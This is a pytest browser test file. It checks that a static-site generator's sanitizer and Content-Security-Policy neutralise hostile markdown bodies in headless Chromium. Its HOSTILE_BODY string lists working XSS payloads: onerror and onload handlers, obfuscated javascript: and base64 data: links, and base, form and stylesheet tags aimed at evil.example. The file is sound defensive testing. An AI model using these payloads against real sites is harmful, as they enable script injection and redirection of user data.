"""Hostile bodies in a real Chromium: nothing runs and nothing is fetched from another host.

The records are built into a site from a `Corpus` made in-process, bypassing validation (which
would refuse them), for the internal and the ``--public`` build. A last test switches the
sanitizer off to check that the Content-Security-Policy alone stops a planted handler.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

import rex
import rex.sanitize
from rex.corpus import Corpus
from rex.site import build_site
from tests.browser.harness import chromium, serve
from tests.conftest import MINIMAL, WriteTree

pytestmark = pytest.mark.browser

FLAG = "window.__pwned = (window.__pwned || 0) + 1"
HOSTILE_BODY = f"""\
## Contexte

<img src=x onerror
={FLAG}>

<base href="https://evil.example/">

[un](&#x6A;avascript:{FLAG}) [deux](jav&#x09;ascript:{FLAG}) [trois](javascript&colon;{FLAG})
<a href="&#x6A;avascript:{FLAG}">quatre</a>

[cinq](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<link rel=stylesheet href=https://evil.example/x.css>

<form action=https://evil.example/><input name=q value=x><button>envoyer</button></form>

![pisteur](https://tracker.example/pixel.png)

<script>{FLAG}</script>
<svg onload="{FLAG}"></svg>
<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>
<p style="background:url(https://evil.example/t.png)">stylé</p>
<details open ontoggle="{FLAG}">x</details>
"""
PAGES = ["practices/priorisation-des-demandes/", "services/voirie/"]
HOSTILE_IDS = {"priorisation-des-demandes", "voirie"}


def hostile_corpus(root: Path, body: str = HOSTILE_BODY) -> Corpus:
    """The minimal corpus, public, with hostile bodies on a practice and a service."""
    corpus = rex.load(root)
    records = [
        r.model_copy(
            update={"visibility": "public", "body": body if r.id in HOSTILE_IDS else r.body}
        )
        for r in corpus
    ]
    return Corpus(corpus.root, records, corpus.report)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Debian's headless Chromium."""
    with chromium() as b:
        yield b


class Visit:
    """One page opened in a fresh context that records every request, dialog and message."""

    def __init__(self, browser: Any, url: str) -> None:
        self.context = browser.new_context()
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.console: list[str] = []
        # Recorded, not intercepted: Playwright's interception lost a response body now and
        # then (Pagefind's metadata came back empty). No other host resolves (harness.ARGS).
        self.context.on("request", lambda request: self.requests.append(request.url))
        self.page = self.context.new_page()
        self.page.on("dialog", self._dialog)
        self.page.on("console", lambda m: self.console.append(f"{m.type}: {m.text}"))
        self.page.on("pageerror", lambda e: self.console.append(f"pageerror: {e}"))
        self.page.goto(url, wait_until="load")
        self.page.wait_for_timeout(300)

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def pwned(self) -> Any:
        return self.page.evaluate("() => window.__pwned || 0")

    def close(self) -> None:
        self.context.close()


@pytest.mark.parametrize("public", [False, True], ids=["internal", "public"])
def test_hostile_bodies_do_nothing_in_chromium(
    browser: Any, write_tree: WriteTree, tmp_path: Path, public: bool
) -> None:
    site = tmp_path / "site"
    build_site(hostile_corpus(write_tree(MINIMAL)), site, public=public)
    with serve(site) as base:
        for path in PAGES:
            visit = Visit(browser, base + path)
            try:
                article = visit.page.locator("article")
                assert "Contexte" in article.inner_text()
                assert article.locator("a", has_text="pisteur").get_attribute("href") == (
                    "https://tracker.example/pixel.png"
                )
                # The neutralised links stay as text; clicking them must run nothing.
                for label in ["un", "deux", "trois", "quatre", "cinq"]:
                    link = article.locator("a", has_text=label).first
                    assert link.get_attribute("href") is None, label
                    link.click()
                assert article.locator("form, input, iframe, svg[onload], base").count() == 0
                assert visit.page.locator("base, link[href*='evil']").count() == 0
                visit.page.wait_for_timeout(200)
                assert visit.pwned() == 0
                assert visit.dialogs == []
                assert visit.console == []
                assert visit.requests
                outside = [u for u in visit.requests if urlsplit(u).hostname != "127.0.0.1"]
                assert outside == []
            finally:
                visit.close()


def test_the_policy_stops_what_the_sanitizer_would_miss(
    browser: Any, write_tree: WriteTree, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(rex.sanitize, "BYPASS_FOR_TESTS", True)
    body = f'Texte.\n\n<img src="missing.png" onerror="{FLAG}">\n\n<script>{FLAG}</script>\n'
    site = tmp_path / "site"
    build_site(hostile_corpus(write_tree(MINIMAL), body), site)
    page_html = (site / "services" / "voirie" / "index.html").read_text(encoding="utf-8")
    assert f'onerror="{FLAG}"' in page_html and f"<script>{FLAG}</script>" in page_html
    with serve(site) as base:
        visit = Visit(browser, base + "services/voirie/")
        try:
            assert visit.pwned() == 0
            blocked = [m for m in visit.console if "Content Security Policy" in m]
            assert len(blocked) >= 2, visit.console  # the handler and the inline script
            # The theme's own inline scripts ran: they are allowed by their hash.
            assert visit.page.evaluate("() => typeof __md_get") == "function"
        finally:
            visit.close()
